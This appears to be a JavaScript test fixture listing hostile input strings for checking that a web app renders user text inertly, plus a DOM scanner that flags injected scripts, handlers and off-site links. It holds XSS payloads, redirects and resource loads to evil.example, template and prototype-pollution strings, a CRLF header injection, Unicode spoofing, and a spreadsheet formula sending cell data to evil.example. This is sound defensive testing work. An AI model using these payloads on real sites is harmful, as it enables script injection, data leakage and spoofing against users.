// Texts that would do something if any page took them for more than texts.

/** What a text that ran would set. */
export const RAN = 'cmRan';

export const nasty = [
  `<script>${RAN}=1;alert(1)</script>`,
  `"><img src=x onerror="${RAN}=2;alert(2)">`,
  `'"--></title></style></textarea><svg onload=${RAN}=3>`,
  `<iframe srcdoc="<script>parent.${RAN}=4</script>"></iframe>`,
  `<img src=//evil.example/a.png><link rel=stylesheet href=//evil.example/a.css>`,
  `<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">`,
  `<style>@import'//evil.example/b.css';*{display:none}</style>`,
  `javascript:${RAN}=5`,
  // Templates, format strings, prototypes.
  `{{constructor.constructor('${RAN}=6')()}}\${${RAN}=6}<%=7%>%s%n`,
  '__proto__',
  // A cell that a spreadsheet would run.
  `=HYPERLINK("//evil.example?"&A1,"x")`,
  // Right to left, to the end of it and over it; no width; marks upon marks; one sign of many.
  '\u202Egnp.exe\u2066\u05E9\u05DC\u05D5\u05DD \uFDFD',
  `Z\u0334\u0348\u0351a\u0336\u0353\u0342lgo${'\u0335'.repeat(20)}\u200B\uFEFF`,
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(3),
  // No space to break a line at.
  'W'.repeat(100),
  '👩‍👩‍👧‍👦'.repeat(9),
  // Refused, or shown.
  'nul\u0000in the middle',
  'two\r\nSet-Cookie: lines=1',
];

/** As addresses, of which some are none. */
export const nastyUrls = [
  `javascript:${RAN}=7`,
  `JaVaScRiPt://kallista.example/%0a${RAN}=7`,
  `data:text/html,<script>${RAN}=8</script>`,
  '//evil.example/',
  `https://kallista.example/"><img src=x onerror=${RAN}=9>`,
  `https://kallista.example/?q=%22%3E%3Cscript%3E${RAN}=9%3C/script%3E`,
  `https://kallista.example/${'w'.repeat(900)}`,
  'https://kallista.example@evil.example/',
];

/** Runs in the page: what there is of another's making in it. */
export function foreignIn(ran) {
  const wrong = [
    'script:not([src^="/assets/"]):not([nonce])', 'iframe', 'object', 'embed', 'base', 'meta[http-equiv]', '[onerror]', '[onload]', '[onclick]',
    'img:not([src^="/"]):not([src^="data:image/"]):not([src^="blob:"])', 'img[src^="//"]', 'link:not([href^="/"])', 'link[href^="//"]',
  ];
  const links = [...document.querySelectorAll('a[href], form[action], [formaction]')].filter((element) => !/^(#|\/(?!\/)|https?:|blob:|mailto:|data:text\/plain)/.test(element.getAttribute('href') ?? element.getAttribute('action') ?? element.getAttribute('formaction')));
  return {
    ran: window[ran],
    markup: [...document.querySelectorAll(wrong.join()), ...links].map((element) => element.outerHTML.slice(0, 120)),
  };
}
